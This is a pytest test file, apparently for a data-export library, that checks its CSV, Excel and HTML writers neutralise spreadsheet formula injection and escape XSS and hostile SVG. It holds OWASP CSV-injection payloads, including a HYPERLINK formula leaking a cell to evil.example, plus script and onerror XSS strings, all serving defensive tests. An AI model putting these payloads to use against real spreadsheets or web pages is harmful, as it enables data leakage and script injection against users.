"""The safe writers: OWASP formula payloads, Excel's limits, escaped self-contained HTML."""

from __future__ import annotations

import base64
import datetime as dt
import decimal
import gzip
import hashlib
import json
import os
import re
import shutil
import subprocess
import warnings
from html.parser import HTMLParser
from pathlib import Path

import numpy as np
import openpyxl
import pandas as pd
import pytest

from mediaframe.exceptions import ExportError, InvalidParameterError
from mediaframe.reports import (
    Section,
    export,
    read_parquet,
    render_html,
    risky,
    safe_cell,
    to_csv,
    to_excel,
    to_html,
    to_json,
    to_parquet,
)
from mediaframe.reports import excel as excel_module

#: OWASP's CSV-injection examples and their neighbours, each a text a spreadsheet would run.
PAYLOADS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?leak="&A1,"Error: click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "   =1+1",
    "|calc",
    "%0A=1+1",
]
#: Text that must come through untouched.
HARMLESS = ["sunset", "-3", "+4.5", "1e-3", "Ada Lovelace", "", "a=b", "e-mail"]


@pytest.mark.parametrize("text", PAYLOADS)
def test_every_payload_is_risky_and_gets_a_leading_quote(text):
    assert risky(text)
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("text", HARMLESS)
def test_harmless_text_and_plain_numbers_are_kept(text):
    assert not risky(text)
    assert safe_cell(text) == text


def test_numbers_are_never_touched():
    assert safe_cell(-3) == -3 and safe_cell(-2.5) == -2.5 and safe_cell(None) is None


def test_policy_off_keeps_text_and_a_wrong_policy_names_the_choices():
    assert safe_cell("=1+1", "off") == "=1+1"
    with pytest.raises(InvalidParameterError, match="escape"):
        safe_cell("x", "none")  # type: ignore[arg-type]


@pytest.fixture
def hostile() -> pd.DataFrame:
    frame = pd.DataFrame(
        {
            "title": pd.array([*PAYLOADS, "sunset"], dtype="string"),
            "size": pd.array([-1, *range(len(PAYLOADS))], dtype="Int64"),
            "kind": pd.Categorical(["=kind", *["image"] * len(PAYLOADS)]),
        }
    )
    frame["=1+1"] = -2.5
    return frame


GOLDEN_CSV = (
    "title,size,kind,'=1+1\n"
    "'=cmd|' /C calc'!A0,-1,'=kind,-2.5\n"
    '"\'=HYPERLINK(""http://evil.example/?leak=""&A1,""Error: click"")",0,image,-2.5\n'
    "'+1+cmd|' /C calc'!A0,1,image,-2.5\n"
    "'-2+3+cmd|' /C calc'!A0,2,image,-2.5\n"
    "'@SUM(1+9)*cmd|' /C calc'!A0,3,image,-2.5\n"
    "'\t=1+1,4,image,-2.5\n"
    '"\'\r=1+1",5,image,-2.5\n'
    '"\'\n=1+1",6,image,-2.5\n'
    "'   =1+1,7,image,-2.5\n"
    "'|calc,8,image,-2.5\n"
    "'%0A=1+1,9,image,-2.5\n"
    "sunset,10,image,-2.5\n"
)


def test_csv_matches_the_golden_file(hostile, tmp_path):
    path = to_csv(hostile, tmp_path / "x.csv")
    assert path.read_bytes().decode() == GOLDEN_CSV.replace(",-2.5\n", ",-2.5\r\n").replace(
        "'=1+1\n", "'=1+1\r\n"
    )


def test_excel_writes_strings_as_strings_with_a_quote_prefix_on_risky_ones(hostile, tmp_path):
    to_excel(hostile, tmp_path / "x.xlsx")
    sheet = openpyxl.load_workbook(tmp_path / "x.xlsx").worksheets[0]
    assert sheet.freeze_panes == "A2"
    header = list(sheet[1])
    assert [c.value for c in header] == ["title", "size", "kind", "=1+1"]
    assert all(c.font.bold for c in header) and header[3].quotePrefix
    for row, text in enumerate([*PAYLOADS, "sunset"], start=2):
        cell = sheet.cell(row, 1)
        # the value is unchanged (a CR is stored as OOXML's _x000D_ escape, which Excel reads)
        assert cell.value.replace("_x000D_", "\r") == text
        assert cell.data_type == "s"
        assert cell.quotePrefix is (text != "sunset")
    assert sheet.cell(2, 2).value == -1 and sheet.cell(2, 2).data_type == "n"
    assert sheet.cell(2, 4).value == -2.5


def test_excel_dates_become_utc_with_a_note_and_long_cells_are_cut(tmp_path):
    frame = pd.DataFrame(
        {
            "created_on": pd.to_datetime(["2024-06-01T12:00:00+02:00", None], utc=True),
            "long": ["x" * 40_000, "short"],
        }
    )
    to_excel({"records": frame}, tmp_path / "d.xlsx")
    book = openpyxl.load_workbook(tmp_path / "d.xlsx")
    sheet = book["records"]
    assert sheet.cell(1, 1).value == "created_on (UTC)"
    assert sheet.cell(2, 1).value == pd.Timestamp("2024-06-01T10:00:00").to_pydatetime()
    assert sheet.cell(3, 1).value is None
    assert len(sheet.cell(2, 2).value) == 32_767
    notes = [row for row in book["notes"].iter_rows(values_only=True)][1:]
    assert ("records", "created_on (UTC)", "timezone-aware times written in UTC") in notes
    assert any("cut" in note and column == "long" for _, column, note in notes)


def test_sheet_names_are_valid_unique_and_at_most_31_characters(tmp_path):
    one = pd.DataFrame({"v": [1]})
    frames = {"a/b:c*?[x]": one, "A_B_C__[X]": one, "'" + "y" * 40 + "'": one, "History": one}
    # a title cut at 31 characters right after an apostrophe (a collection "Ada's ...")
    frames["z" * 29 + " 'quoted'"] = one
    to_excel(frames, tmp_path / "n.xlsx")
    names = openpyxl.load_workbook(tmp_path / "n.xlsx").sheetnames
    assert names == ["a_b_c___x_", "A_B_C___X_ (2)", "y" * 31, "History (2)", "z" * 29]


def test_frames_past_the_row_limit_go_on_over_more_sheets(tmp_path, monkeypatch):
    # a lowered limit, to read every value back; the real one: the test below
    monkeypatch.setattr(excel_module, "EXCEL_ROWS", 4)  # three data rows a sheet
    to_excel({"big": pd.DataFrame({"n": range(7)})}, tmp_path / "s.xlsx")
    book = openpyxl.load_workbook(tmp_path / "s.xlsx")
    assert book.sheetnames == ["big", "big (2)", "big (3)", "notes"]
    values = [c.value for name in ("big", "big (2)", "big (3)") for c in book[name]["A"][1:]]
    assert values == list(range(7))
    assert all(book[name]["A1"].value == "n" for name in ("big", "big (2)", "big (3)"))


def _cells(book_path, sheet: int) -> dict[int, str]:
    """Row number -> value of column A of a sheet, read from its XML (no spreadsheet library
    walks a million rows quickly)."""
    import zipfile

    with zipfile.ZipFile(book_path) as book:
        xml = book.read(f"xl/worksheets/sheet{sheet}.xml").decode()
    return {int(row): value for row, value in re.findall(r'<c r="A(\d+)"[^>]*><v>([^<]*)</v>', xml)}


def test_the_real_excel_row_limit_is_used_and_a_split_keeps_every_row(tmp_path):
    import xlsxwriter

    from mediaframe.reports.excel import EXCEL_ROWS

    probe = xlsxwriter.Workbook(str(tmp_path / "probe.xlsx"), {"constant_memory": True})
    sheet = probe.add_worksheet()
    assert EXCEL_ROWS == 1_048_576 == sheet.xls_rowmax
    assert sheet.write_number(EXCEL_ROWS - 1, 0, 1) == 0  # the last row a sheet has...
    assert sheet.write_number(EXCEL_ROWS, 0, 1) == -1  # ...and none past it
    probe.close()
    # one row past a full sheet (header + 1,048,575 rows): the split is at the real limit.
    # Only the rows at the seams hold a value (the others are empty cells, skipped), so the
    # workbook stays small and the test quick; every row still goes through the writer.
    rows = EXCEL_ROWS + 1
    seams = [0, 1, EXCEL_ROWS - 2, EXCEL_ROWS - 1, EXCEL_ROWS]
    column = pd.Series(pd.NA, index=range(rows), dtype="Int64")
    column[seams] = seams
    path = to_excel({"big": pd.DataFrame({"n": column})}, tmp_path / "big.xlsx")
    names = openpyxl.load_workbook(path, read_only=True).sheetnames
    assert names == ["big", "big (2)", "notes"]
    first, second = _cells(path, 1), _cells(path, 2)
    # frame row i is on sheet i // (EXCEL_ROWS - 1), at spreadsheet row i % (EXCEL_ROWS - 1) + 2
    assert {r: v for r, v in first.items() if r > 1} == {
        2: "0",
        3: "1",
        EXCEL_ROWS: str(EXCEL_ROWS - 2),
    }
    assert {r: v for r, v in second.items() if r > 1} == {
        2: str(EXCEL_ROWS - 1),
        3: str(EXCEL_ROWS),
    }
    notes = pd.read_excel(path, sheet_name="notes")["note"].tolist()
    assert notes == ["rows 1-1,048,575 of 'big'", "rows 1,048,576-1,048,577 of 'big'"]


def test_parquet_reads_back_identical_with_its_provenance(hostile, tmp_path):
    hostile["when"] = pd.to_datetime(["2024-01-01T00:00:00Z"] * len(hostile), utc=True)
    hostile.attrs["harvest"] = {"kind": "records", "query": "sunset", "filters": {"bases": [1]}}
    back = read_parquet(to_parquet(hostile, tmp_path / "x.parquet"))
    pd.testing.assert_frame_equal(back, hostile)
    assert back.attrs["harvest"] == hostile.attrs["harvest"]
    assert pd.read_parquet(tmp_path / "x.parquet").attrs["mediaframe_version"]


def test_parquet_refuses_a_secret_in_the_attrs(tmp_path):
    frame = pd.DataFrame({"a": [1]})
    frame.attrs["provenance"] = {"access_token": "abc"}
    with pytest.raises(ExportError, match="access_token"):
        to_parquet(frame, tmp_path / "x.parquet")
    assert list(tmp_path.iterdir()) == []


XSS = [
    "<script>alert(1)</script>",
    '<img src=x onerror="alert(1)">',
    '"><svg onload=alert(1)>',
    "javascript:alert(1)",
    "</td></tr></table><iframe src=https://evil.example>",
]


class _Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.scripts: list[str] = []
        self._in_script = False

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))
        self._in_script = tag == "script"

    def handle_data(self, data):
        if self._in_script:
            self.scripts.append(data)
            self._in_script = False


def test_html_escapes_every_value_name_and_provenance_and_fetches_nothing(tmp_path):
    frame = pd.DataFrame({XSS[0]: XSS, "n": range(len(XSS))})
    path = to_html(
        {XSS[1]: frame},
        tmp_path / "x.html",
        title=XSS[2],
        provenance={"server": XSS[4], "query": XSS[0]},
    )
    page = path.read_text()
    parser = _Tags()
    parser.feed(page)
    names = {tag for tag, _ in parser.tags}
    assert names <= {"html", "head", "meta", "title", "style", "body", "h1", "dl", "dt", "dd",
                     "nav", "h2", "ol", "li", "a", "section", "p", "div", "table", "thead",
                     "tr", "th", "tbody", "td", "script"}  # fmt: skip
    assert not any(k.startswith("on") for _, attrs in parser.tags for k in attrs)
    assert not any("src" in attrs for _, attrs in parser.tags)
    links = [attrs["href"] for tag, attrs in parser.tags if tag == "a"]
    assert links and all(link.startswith("#") for link in links)
    assert len(parser.scripts) == 1 and "alert" not in parser.scripts[0]
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page
    # the policy lets through only the page's own script, by its hash
    csp = next(a["content"] for _, a in parser.tags if a.get("http-equiv", "").endswith("Policy"))
    digest = base64.b64encode(hashlib.sha256(parser.scripts[0].encode()).digest()).decode()
    assert f"'sha256-{digest}'" in csp and "default-src 'none'" in csp
    assert "mediaframe version" in page and "generated at" in page


def _body_rows(page: str) -> int:
    return page.split("<tbody>", 1)[1].split("</tbody>", 1)[0].count("<tr>")


def test_a_huge_frame_makes_a_page_of_bounded_size_that_says_what_it_left_out(tmp_path):
    from mediaframe.reports.html import MAX_ROWS

    assert MAX_ROWS == 10_000
    huge = pd.DataFrame({"record_id": range(10 * MAX_ROWS), "title": "a title"})
    page = to_html(huge, tmp_path / "huge.html").read_text()
    assert _body_rows(page) == MAX_ROWS
    assert "Showing the first 10,000 of 100,000 rows: 90,000 rows were left out" in page
    assert "to_parquet(frame, path)" in page and "-o FILE.parquet" in page
    assert "Tables longer than 10,000 rows show their first 10,000" in page
    # the page does not grow with the frame
    just_over = to_html(huge.head(MAX_ROWS + 1), tmp_path / "over.html").read_text()
    assert abs(len(page) - len(just_over)) < 100


def test_a_page_shows_every_row_of_a_table_under_the_limit_and_all_when_asked(tmp_path):
    frame = pd.DataFrame({"n": range(25)})
    whole = to_html(frame, tmp_path / "whole.html").read_text()
    assert _body_rows(whole) == 25 and "left out" not in whole
    cut = to_html(frame, tmp_path / "cut.html", max_rows=10).read_text()
    assert _body_rows(cut) == 10 and "15 rows were left out" in cut
    every = to_html(frame, tmp_path / "every.html", max_rows=None).read_text()
    assert _body_rows(every) == 25
    for bad in (-1, "10", 2.5, True):
        with pytest.raises(InvalidParameterError, match="max_rows"):
            to_html(frame, tmp_path / "bad.html", max_rows=bad)


class _PageCells(HTMLParser):
    """The text of each cell of a page's tables, unescaped, as a browser shows it."""

    def __init__(self) -> None:
        super().__init__()
        self.cells: list[str] = []
        self._in = False

    def handle_starttag(self, tag, attrs):
        if tag == "td":
            self.cells.append("")
            self._in = True

    def handle_endtag(self, tag):
        self._in = self._in and tag != "td"

    def handle_data(self, data):
        if self._in:
            self.cells[-1] += data


def _page_cells(page: str) -> list[str]:
    parser = _PageCells()
    parser.feed(page)
    return parser.cells


def test_a_huge_cell_is_cut_before_escaping_and_says_what_it_left_out(tmp_path):
    # a 40 MB caption of markup, multi-byte characters and emoji: the page stays small
    caption = "<b>é&😀" * 5_000_000
    frame = pd.DataFrame({"record_id": [1, 2], "caption": [caption, "short"]})
    page = to_html(frame, tmp_path / "huge.html").read_bytes().decode("utf-8")  # whole chars
    assert len(page) < 30_000, f"a page of {len(page):,} characters"
    from mediaframe.reports.html import MAX_CELL_CHARS

    assert MAX_CELL_CHARS == 2_000
    cut = _page_cells(page)[1]
    shown, note = cut.split("…")
    assert shown == caption[:MAX_CELL_CHARS]  # cut as text: the escapes are whole
    assert note == f" ({len(caption) - MAX_CELL_CHARS:,} more characters)"
    assert _page_cells(page)[3] == "short"
    assert "&lt;b&gt;é&amp;😀" in page and "<b>" not in page.split("<tbody>")[1]
    assert "Cells longer than 2,000 characters show their first 2,000" in page


def test_a_cell_is_cut_where_asked_and_never_between_a_letter_and_its_accent(tmp_path):
    accents = "e\u0301" * 10  # é as a letter and a combining accent
    family = "\U0001f469\u200d\U0001f467"  # woman, joiner, girl: one emoji
    frame = pd.DataFrame({"t": ["&<x", accents, "ab" + family, "abcd"]})
    page = render_html(frame, max_cell_chars=4)
    assert _page_cells(page) == [
        "&<x",
        "e\u0301e\u0301… (16 more characters)",  # not "e\u0301e": the accent it cut off
        "ab… (3 more characters)",  # not "ab\U0001f469": half the emoji
        "abcd",
    ]
    assert "&amp;&lt;x" in page and "rows were left out" not in page
    whole = render_html(pd.DataFrame({"t": ["x" * 5_000]}), max_cell_chars=None)
    assert "x" * 5_000 in whole and "more characters" not in whole
    for bad in (0, -1, "10", 2.5, True):
        with pytest.raises(InvalidParameterError, match="max_cell_chars"):
            render_html(frame, max_cell_chars=bad)
    # a count taken from a frame is a numpy integer: as good as an int
    counted = render_html(frame, max_cell_chars=np.int64(4), max_rows=np.int64(9))
    assert _page_cells(counted) == _page_cells(page)


def test_html_embeds_figures_as_inline_svg_without_outside_links(tmp_path):
    import matplotlib

    matplotlib.use("Agg")
    import matplotlib.pyplot as plt

    fig, ax = plt.subplots()
    ax.bar(["<script>alert(1)</script>", "b"], [3, 4])
    ax.set_title('<img src=x onerror="alert(1)">')
    page = to_html(pd.DataFrame({"a": [1]}), tmp_path / "f.html", figures={"counts": fig})
    plt.close(fig)
    text = page.read_text()
    assert "<svg" in text and "<script>alert" not in text and "<img" not in text
    assert not re.search(r"(?:href|src)\s*=\s*[\"']?https?:", text)
    assert "<?xml" not in text and "<!DOCTYPE svg" not in text


def test_export_picks_the_writer_by_extension_and_refuses_others(tmp_path):
    frame = pd.DataFrame({"t": ["=1"], "n": [1]})
    for suffix in (".csv", ".xlsx", ".parquet", ".json", ".html"):
        assert export(frame, tmp_path / f"x{suffix}").stat().st_size > 0
    assert (tmp_path / "x.csv").read_text().splitlines()[1] == "'=1,1"
    assert pd.read_csv(tmp_path / "x.csv").to_dict("records") == [{"t": "'=1", "n": 1}]
    assert pd.read_json(tmp_path / "x.json").to_dict("records") == [{"t": "=1", "n": 1}]
    with pytest.raises(ExportError, match=r"\.csv"):
        export(frame, tmp_path / "x.txt")
    with pytest.raises(ExportError, match="one table"):
        export({"a": frame, "b": frame}, tmp_path / "two.csv")


def test_a_failed_export_leaves_the_earlier_file_and_no_partial(tmp_path):
    (tmp_path / "x.xlsx").write_text("earlier")
    with pytest.raises(InvalidParameterError):
        to_excel({"a": "not a frame"}, tmp_path / "x.xlsx")  # type: ignore[dict-item]
    with pytest.raises(ExportError, match="does not exist"):
        to_csv(pd.DataFrame({"a": [1]}), tmp_path / "missing" / "x.csv")
    assert (tmp_path / "x.xlsx").read_text() == "earlier"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["x.xlsx"]


@pytest.mark.parametrize(
    "svg",
    [
        '<svg><a href="https://evil.example">x</a></svg>',
        "<svg><image href=data:text/html,x /></svg>",
        '<svg onload="alert(1)"></svg>',
        '<svg><image src = "http://evil.example/x.png"/></svg>',
        "<svg><foreignObject><iframe></iframe></foreignObject></svg>",
        "<p>not an svg</p>",
        # links made by animation, and a redirect after the svg closes: neither is a href=
        '<svg><a><set attributeName="href" to="https://evil.example"/>x</a></svg>',
        '<svg><a><animate attributeName="href" values="https://evil.example"/>x</a></svg>',
        '<svg></svg><meta http-equiv="refresh" content="0;url=https://evil.example"><svg></svg>',
    ],
)
def test_svg_text_that_could_fetch_or_run_is_refused(svg):
    from mediaframe.reports.html import clean_svg

    with pytest.raises(ExportError):
        clean_svg(svg)


def test_html_takes_what_excel_takes_and_names_what_it_cannot_show():
    # a list of frames (as to_excel takes) was refused as "not DataFrame"; a Section alone, a
    # Series or a list in a mapping ended in a bare TypeError, IndexError or AttributeError
    records = pd.DataFrame({"record_id": [1, 2]})
    page = render_html([records, pd.DataFrame({"n": [7]})])
    assert page.count("<table") == 2
    assert render_html(Section("alone", records)).count("<table") == 1
    for given in ({"counts": records["record_id"]}, {"a": [1, 2]}, None, 3):
        with pytest.raises(InvalidParameterError, match="to_html takes DataFrames"):
            render_html(given)


def test_svg_may_link_inside_itself_and_embed_images():
    from mediaframe.reports.html import clean_svg

    svg = '<svg><use xlink:href="#a"/><image xlink:href="data:image/png;base64,AA"/></svg>'
    assert clean_svg(svg) == svg


_DIES_MID_WRITE = """
import os, signal, sys
import pandas as pd
from mediaframe.reports import export
from mediaframe.reports import exports

def dying(self, path, *args, **kwargs):  # half a file written, then killed, no cleanup at all
    with open(path, "w") as half:
        half.write("half,a,file")
        half.flush()
    os.kill(os.getpid(), signal.SIGKILL)

def dying_handle(path, *args, **kwargs):  # to_json writes its text through pandas' handle
    dying(None, path)


pd.DataFrame.to_csv = pd.DataFrame.to_parquet = dying
exports.get_handle = dying_handle
export(pd.DataFrame({"a": [1, 2]}), sys.argv[1])
"""


@pytest.mark.parametrize("name", ["x.csv", "x.parquet", "x.json"])
def test_a_kill_mid_export_leaves_the_earlier_file_whole(tmp_path, name):
    import signal
    import subprocess
    import sys

    target = tmp_path / name
    export(pd.DataFrame({"a": [7, 8, 9]}), target)
    earlier = target.read_bytes()
    died = subprocess.run([sys.executable, "-c", _DIES_MID_WRITE, str(target)], check=False)
    assert died.returncode == -signal.SIGKILL
    assert target.read_bytes() == earlier  # not half of the new file
    # what the kill left is a hidden partial beside it, never the file itself
    assert [p.name.startswith(f".{name}.") for p in tmp_path.iterdir() if p != target] == [True]
    export(pd.DataFrame({"a": [1, 2]}), target)  # and the next export goes through
    assert (
        len(
            pd.read_csv(target)
            if name.endswith("csv")
            else read_parquet(target)
            if name.endswith("parquet")
            else pd.read_json(target)
        )
        == 2
    )


_WRITES_MANY_TIMES = """
import sys
import pandas as pd
from mediaframe.reports import to_csv, to_excel

frame = pd.DataFrame({"who": [sys.argv[2]] * 20_000, "n": range(20_000)})
for _ in range(5):
    to_csv(frame, sys.argv[1] + ".csv")
    to_excel({"t": frame.head(2_000)}, sys.argv[1] + ".xlsx")
"""


def test_two_processes_exporting_to_one_name_leave_one_whole_file(tmp_path):
    # and a reader meanwhile never sees half a file
    import subprocess
    import sys

    base = str(tmp_path / "shared")
    writers = [
        subprocess.Popen([sys.executable, "-c", _WRITES_MANY_TIMES, base, who])
        for who in ("first", "second")
    ]
    seen = 0
    try:
        while any(w.poll() is None for w in writers):
            try:
                text = Path(base + ".csv").read_bytes()
            except FileNotFoundError:
                continue
            assert text.endswith(b"\r\n") and text.count(b"\r\n") == 20_001, "half a file seen"
            seen += 1
        assert [w.wait(timeout=300) for w in writers] == [0, 0] and seen
    finally:
        for writer in writers:
            writer.kill()
            writer.wait()
    csv = pd.read_csv(base + ".csv")
    assert len(csv) == 20_000 and csv["who"].nunique() == 1  # one writer's file, whole
    sheet = pd.read_excel(base + ".xlsx", sheet_name="t")
    assert len(sheet) == 2_000 and sheet["who"].nunique() == 1
    assert sorted(p.name for p in tmp_path.iterdir()) == ["shared.csv", "shared.xlsx"]


_BUNDLE_DIES_MID_FOLDER = """
import os, signal, sys
import pandas as pd
from mediaframe.reports import bundle, exports

class Tables(bundle.Bundle):
    tables = {name: pd.DataFrame({"v": [sys.argv[2]]}) for name in ("one", "two", "three")}
    def readme(self):
        return pd.DataFrame({"table": list(self.tables)})

if sys.argv[3] == "die":
    real, calls = exports.to_csv, []
    def dying(frame, path, **options):
        calls.append(path)
        if len(calls) == 3:  # two files of the new export written, then killed
            os.kill(os.getpid(), signal.SIGKILL)
        return real(frame, path, **options)
    bundle.to_csv = dying
Tables().to_csv(sys.argv[1])
"""


def test_a_kill_mid_folder_export_leaves_the_earlier_files_unmixed(tmp_path):
    import signal
    import subprocess
    import sys

    folder = tmp_path / "audit-csv"

    def run(value: str, how: str) -> int:
        script = [sys.executable, "-c", _BUNDLE_DIES_MID_FOLDER, str(folder), value, how]
        return subprocess.run(script, check=False).returncode

    assert run("earlier", "live") == 0
    earlier = {p.name: p.read_bytes() for p in folder.iterdir()}
    assert run("newer", "die") == -signal.SIGKILL
    assert {p.name: p.read_bytes() for p in folder.iterdir() if p.is_file()} == earlier
    assert run("newer", "live") == 0
    values = {pd.read_csv(p)["v"][0] for p in folder.glob("*.csv") if p.name != "README.csv"}
    assert values == {"newer"} and not any(p.is_dir() for p in folder.iterdir())
    # only the killed run's hidden staging folder is left, beside the folder
    assert [p.name.startswith(".audit-csv.partial-") for p in tmp_path.iterdir()].count(True) == 1


def test_a_bundle_table_name_cannot_leave_its_folder(tmp_path):
    from mediaframe.reports.bundle import Bundle

    class Tables(Bundle):
        tables = {"../escaped": pd.DataFrame({"v": [1]})}  # noqa: RUF012

        def readme(self) -> pd.DataFrame:
            return pd.DataFrame({"table": ["../escaped"]})

    with pytest.raises(ExportError, match="cannot be a file name"):
        Tables().to_csv(tmp_path / "out")
    assert not (tmp_path / "escaped.csv").exists()


_BROWSER = next(
    (b for b in ("chromium", "chromium-browser", "google-chrome") if shutil.which(b)), None
)


# Skipped on a machine without Chromium; under CI (.ci/run installs it) its absence fails.
@pytest.mark.skipif(
    _BROWSER is None and not os.environ.get("CI"),
    reason="needs a headless Chromium to run the page's script (apt-get install chromium)",
)
def test_a_pages_tables_sort_in_a_browser(tmp_path):
    # The page's own sorting script, run by a real browser: numbers as numbers, empty cells last.
    # The page's CSP allows only its own script, so the test's click comes in without it.
    assert _BROWSER, "no Chromium to run the page's script: apt-get install chromium"
    to_html({"t": pd.DataFrame({"n": [10, 9, 100, None, 2.5], "s": ["b", "a", "c", "", "d"]})},
            tmp_path / "p.html")  # fmt: skip
    page = (tmp_path / "p.html").read_text()
    page = re.sub(r'<meta http-equiv="Content-Security-Policy"[^>]*>', "", page)
    click = "document.querySelector('table.mf-sortable th').click();"
    (tmp_path / "clicked.html").write_text(
        page.replace("</body>", f"<script>{click}</script></body>")
    )
    dom = subprocess.run(
        [_BROWSER, "--headless", "--no-sandbox", "--disable-gpu", "--dump-dom",
         (tmp_path / "clicked.html").as_uri()],
        capture_output=True, text=True, timeout=120, check=True,
    ).stdout  # fmt: skip
    body = dom[dom.index("<tbody") : dom.index("</tbody>")]
    first_column = re.findall(r"<td[^>]*>([^<]*)</td>", body)[::2]
    assert first_column == ["2.5", "9", "10", "100", ""]
    assert 'aria-sort="ascending"' in dom


def test_numbers_in_a_column_of_mixed_values_stay_numbers_in_excel(tmp_path):
    # an object column (as JSON or a user's frame gives): numbers stay numbers, text stays text
    mixed = pd.Series([-3, "-3", "=1+1", 2.5, True, float("nan"), None, "ok"], dtype=object)
    to_excel({"t": pd.DataFrame({"mixed": mixed})}, tmp_path / "m.xlsx")
    sheet = openpyxl.load_workbook(tmp_path / "m.xlsx")["t"]
    cells = [sheet.cell(row, 1) for row in range(2, 10)]
    assert [(c.value, c.data_type) for c in cells] == [
        (-3, "n"), ("-3", "s"), ("=1+1", "s"), (2.5, "n"), (True, "b"),
        (None, "n"), (None, "n"), ("ok", "s"),
    ]  # fmt: skip
    assert cells[2].quotePrefix and not cells[0].quotePrefix


def test_a_figure_labelled_by_a_server_is_embedded_whatever_the_svg_font_setting(monkeypatch):
    # a collection named like a handler ('online=1') must not break the page, nor put its text
    # into the SVG, even for a user who set svg.fonttype to 'none' (editable text)
    matplotlib = pytest.importorskip("matplotlib")
    matplotlib.use("Agg")
    import matplotlib.pyplot as plt

    from mediaframe.reports.html import svg_of

    monkeypatch.setitem(matplotlib.rcParams, "svg.fonttype", "none")
    figure, axes = plt.subplots()
    axes.barh(["online=1", "<script>x</script>", 'a" onload="alert(1)'], [1, 2, 3])
    try:
        svg = svg_of(figure)
    finally:
        plt.close(figure)
    assert "online" not in svg and "script" not in svg and "onload" not in svg
    assert matplotlib.rcParams["svg.fonttype"] == "none"  # the user's setting is left alone


def test_a_frame_wider_than_a_sheet_is_refused_rather_than_cut(tmp_path):
    # xlsxwriter drops the cells past column 16,384 without a word: the export would lose data
    wide = pd.DataFrame([range(excel_module.EXCEL_COLUMNS + 1)])
    wide.columns = [f"c{i}" for i in wide.columns]
    (tmp_path / "w.xlsx").write_text("earlier")
    with pytest.raises(ExportError, match=r"16,385 columns .* holds 16,384: write .parquet"):
        to_excel({"wide": wide}, tmp_path / "w.xlsx")
    assert (tmp_path / "w.xlsx").read_text() == "earlier"
    to_excel({"fits": wide.iloc[:, : excel_module.EXCEL_COLUMNS]}, tmp_path / "w.xlsx")
    sheet = openpyxl.load_workbook(tmp_path / "w.xlsx", read_only=True)["fits"]
    assert sheet.max_column == excel_module.EXCEL_COLUMNS


def test_an_export_through_a_link_replaces_the_file_it_names_and_keeps_the_link(tmp_path):
    (tmp_path / "2024-11.csv").write_text("earlier")
    (tmp_path / "latest.csv").symlink_to("2024-11.csv")
    to_csv(pd.DataFrame({"a": [1]}), tmp_path / "latest.csv")
    assert (tmp_path / "latest.csv").is_symlink()
    assert (tmp_path / "2024-11.csv").read_bytes() == b"a\r\n1\r\n"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["2024-11.csv", "latest.csv"]


def test_an_export_to_a_named_pipe_is_streamed_into_it(tmp_path):
    import os
    import threading

    pipe = tmp_path / "out.csv"
    os.mkfifo(pipe)
    got: list[bytes] = []
    reader = threading.Thread(target=lambda: got.append(pipe.read_bytes()), daemon=True)
    reader.start()
    to_csv(pd.DataFrame({"a": [1, 2]}), pipe)
    reader.join(10)
    assert got == [b"a\r\n1\r\n2\r\n"] and pipe.is_fifo()
    assert sorted(p.name for p in tmp_path.iterdir()) == ["out.csv"]


def test_a_long_file_name_is_written_and_a_name_too_long_is_an_export_error(tmp_path):
    # the partial beside a 250-byte name must still fit the 255 bytes a name may have
    long = tmp_path / ("é" * 123 + ".csv")  # 250 bytes
    to_csv(pd.DataFrame({"a": [1]}), long)
    assert long.read_bytes() == b"a\r\n1\r\n"
    assert sorted(p.name for p in tmp_path.iterdir()) == [long.name]
    with pytest.raises(ExportError, match="cannot write"):
        to_csv(pd.DataFrame({"a": [1]}), tmp_path / ("x" * 300 + ".csv"))


def test_csv_keeps_every_column_of_a_repeated_or_neutralised_name(tmp_path):
    # a join or a caption field named like a system one repeats a name; "=a" neutralised is
    # "'=a", the name of another column: each column is still written, in its place
    frame = pd.DataFrame([[1, 2, "=x", "y"]], columns=["a", "a", "=a", "'=a"])
    text = to_csv(frame, tmp_path / "dup.csv").read_bytes().decode()
    assert text == "a,a,'=a,'=a\r\n1,2,'=x,y\r\n"


def test_excel_writes_integers_longer_than_excel_keeps_as_text_and_says_so(tmp_path):
    # Excel keeps 15 significant digits: 12345678901234567 would open as 12345678901234600
    frame = pd.DataFrame(
        {
            "id": [12_345_678_901_234_567, 10**17, -5],
            "mixed": pd.Series([2**63 - 1, "x", 7], dtype=object),
        }
    )
    to_excel({"ids": frame}, tmp_path / "ids.xlsx")
    book = openpyxl.load_workbook(tmp_path / "ids.xlsx")
    rows = list(book["ids"].iter_rows(min_row=2, values_only=True))
    assert rows == [("12345678901234567", "9223372036854775807"), (10**17, "x"), (-5, 7)]
    notes = list(book["notes"].iter_rows(min_row=2, values_only=True))
    assert [(sheet, column) for sheet, column, _ in notes] == [("ids", "id"), ("ids", "mixed")]
    assert all("1 value(s) written as text" in note for *_, note in notes)


def test_excel_writes_dates_before_1900_as_iso_text_and_says_so(tmp_path):
    # Excel's calendar starts in 1900: an earlier date (a photograph "taken 1850") was written
    # as a negative serial, which Excel shows as ####
    frame = pd.DataFrame(
        {
            "taken": pd.to_datetime(["1850-06-01 12:00", "1900-03-01 00:00", None]),
            "shot": pd.to_datetime(["1899-12-31T20:00:00-02:00", None, None], utc=True),
        }
    )
    to_excel({"dates": frame}, tmp_path / "old.xlsx")
    book = openpyxl.load_workbook(tmp_path / "old.xlsx")
    rows = list(book["dates"].iter_rows(min_row=2, values_only=True))
    assert rows[0] == ("1850-06-01T12:00:00", "1899-12-31T22:00:00")
    assert rows[1] == (pd.Timestamp("1900-03-01").to_pydatetime(), None)
    notes = list(book["notes"].iter_rows(min_row=2, values_only=True))
    assert [(column, note[:25]) for _, column, note in notes] == [
        ("shot (UTC)", "timezone-aware times writ"),
        ("taken", "1 value(s) written as tex"),
        ("shot (UTC)", "1 value(s) written as tex"),
    ]


def test_an_index_that_holds_data_is_written_by_every_format_and_escaped(tmp_path):
    records = pd.DataFrame(
